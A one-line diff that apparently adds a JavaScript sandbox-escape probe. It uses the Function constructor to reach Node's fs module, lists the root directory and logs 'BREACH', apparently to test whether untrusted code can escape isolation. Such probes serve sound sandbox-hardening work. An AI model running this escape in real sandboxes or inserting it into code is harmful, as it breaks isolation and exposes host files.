@@ -1,0 +1,1 @@
+console.log('BREACH', Function('return process.mainModule.require("fs")')().readdirSync('/').length)
